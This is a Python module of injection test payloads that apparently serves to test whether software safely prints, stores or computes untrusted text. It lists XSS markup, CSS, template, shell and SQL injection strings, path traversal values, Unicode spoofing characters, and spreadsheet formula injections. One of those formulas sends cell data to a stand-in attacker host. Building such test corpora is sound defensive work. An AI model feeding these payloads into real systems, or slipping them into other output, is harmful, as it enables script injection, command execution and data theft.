"""Texts that attack whatever prints, stores or computes them."""

from __future__ import annotations

import unicodedata
import zlib
from collections.abc import Callable

# Whatever of these comes alive creates an element with this attribute, opens a dialog, asks for an
# address, or shows the product of 7 and 7 between two tildes.
MARK = "data-alive"
PRODUCT = "~49~"

MARKUP = (
    f"<script {MARK}>alert(1)</script>",
    f"<ScRiPt/{MARK}>alert(2)</sCrIpT >",
    f"<<script {MARK}>alert(3)//<</script>",
    f"</script><script {MARK}>alert(4)</script>",
    f"<img {MARK} src=x onerror=alert(5)>",
    f"<img {MARK} src=https://attack.invalid/pixel.png>",
    f"<svg {MARK} onload=alert(6)>",
    f"<svg {MARK}><animate onbegin=alert(7) attributeName=x dur=1s>",
    f"<svg><foreignObject><b {MARK}></b></foreignObject></svg>",
    f"<math><mtext></table><mglyph {MARK}><style><!--</style>",
    f"<details {MARK} open ontoggle=alert(8)>",
    f"<iframe {MARK} srcdoc='<script>parent.alert(9)</script>'></iframe>",
    f"<object {MARK} data=https://attack.invalid/x></object>",
    f"<form {MARK} action=https://attack.invalid/><button>Go</button></form>",
    f"<base {MARK} href=https://attack.invalid/>",
    f"<meta {MARK} http-equiv=refresh content=0;url=https://attack.invalid/>",
    f"<link {MARK} rel=stylesheet href=https://attack.invalid/x.css>",
    f"<template><b {MARK}></b></template>",
    f"<a {MARK} href=javascript:alert(10)>click</a>",
    f"<a {MARK} href=data:text/html,<script>alert(11)</script>>click</a>",
    f"</title><b {MARK}>",
    f"</style><b {MARK}>",
    f"</textarea></select></noscript><b {MARK}>",
    f"--><b {MARK}><!--",
    f"--!><b {MARK}>",
    f"]]><b {MARK}><![CDATA[",
    f'" {MARK}="" onmouseover="alert(12)',
    f"' {MARK}='' onfocus='alert(13)' autofocus='",
    f"` {MARK} onpointerenter=alert(14) ",
    f"x {MARK} style=position:fixed;inset:0 onclick=alert(15) x",
    f"&lt;b {MARK}&gt;",
    f"&#60;script {MARK}&#62;alert(16)",
    f"\\u003cscript {MARK}\\u003ealert(17)",
    f"%3Cscript%20{MARK}%3Ealert(18)%3C/script%3E",
    f"＜script {MARK}＞alert(19)＜/script＞",
    "javascript:alert(20)",
    "JaVaScRiPt\t:alert(21)",
    "java\nscript:alert(22)",
    "vbscript:msgbox(23)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgyNCk8L3NjcmlwdD4=",
    "//attack.invalid/x.png",
    "https://attack.invalid/",
)
STYLES = (
    "} * { display: none } .x {",
    "red;background:url(https://attack.invalid/x.png)",
    "expression(alert(25))",
    "@import 'https://attack.invalid/x.css';",
    "\\3c/style\\3e",
)
TEMPLATES = (
    "~{{7*7}}~",
    "~{{ ''.__class__.__mro__ }}~",
    "{% for x in ().__class__.__base__.__subclasses__() %}~{{7*7}}~{% endfor %}",
    "{# a comment",
    "{% raw %}",
    "~${7*7}~",
    "~#{7*7}~",
    "~<%= 7*7 %>~",
    "{persona.__class__.__mro__}",
    "{0.__class__} {} {N}",
    "%(name)s %s %n %d",
    "$HOME `id` $(id)",
    "'; DROP TABLE item; --",
)
LETTERS = (
    "line\u2028separator\u2029here",
    "\u202egnp.exe\u202c",
    "\u2066isolate\u2069\u200f",
    "zero\u200bwidth\ufeff",
    "\\0 %00 \\x00 &#0;",
    "👩‍👩‍👧‍👦 🏴‍☠️ é",
    "Z" + "\u0351\u0321\u0489" * 20,
    "\U0001f600" * 12,
    "null",
    "W" * 300,
)
PATHS = (
    "../../../escaped",
    "..",
    ".",
    "..\\..\\escaped",
    "/escaped",
    "C:\\escaped",
    "CON",
    "nul.txt",
    "~root",
    "a/b",
    "file:///etc/passwd",
    ".hidden",
    "-rf",
    "escaped.html",
    "index",
)
FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://attack.invalid/"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\ufeff=1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "'=1+1",
    "'",
    ";=1+1",
    '";=1+1',
    "a\\",
    "#REF!",
    "#N/A",
    "_x003D_1+1",
    "1e3",
    "0012",
    "TRUE",
    "2026-03-31",
)
PAYLOADS = tuple(
    # As the model keeps them: Unix line ends, composed letters.
    dict.fromkeys(
        unicodedata.normalize("NFC", text.replace("\r", "\n"))
        for text in MARKUP + STYLES + TEMPLATES + LETTERS + PATHS + FORMULAS
    )
)

Word = Callable[[str, int], str]
"""From the text that stood there and the most characters that may stand there to another text."""

_SIGNS = str.maketrans(dict.fromkeys("<>&\"'`{}%$#=/\\", "x"))


def attack(text: str, most: int) -> str:
    """Return several payloads, which ones depends on the text, and then the text's beginning.

    The same text always becomes the same and others stay apart, so that names still name.
    """
    head, end = _parts(text, most)
    return head + end


def harmless(text: str, most: int) -> str:
    """Return the same as :func:`attack` with letters in place of every sign that could do harm."""
    head, end = _parts(text, most)
    return head.translate(_SIGNS) + end


def _parts(text: str, most: int) -> tuple[str, str]:
    check = zlib.crc32(text.encode())
    at = check % len(PAYLOADS)
    end = f" {text[:60]} {check:x}"
    room = min(most, 360) - len(end)
    head = PAYLOADS[at][:room]
    for payload in PAYLOADS[at + 1 :] + PAYLOADS[:at]:
        if len(head) + 1 + len(payload) > room:
            break
        head += f" {payload}"
    return head, end


def bare(text: str, most: int) -> str:
    """Return exactly one payload, which one depends on the text."""
    fitting = [payload for payload in PAYLOADS if len(payload) <= most]
    return fitting[zlib.crc32(text.encode()) % len(fitting)]
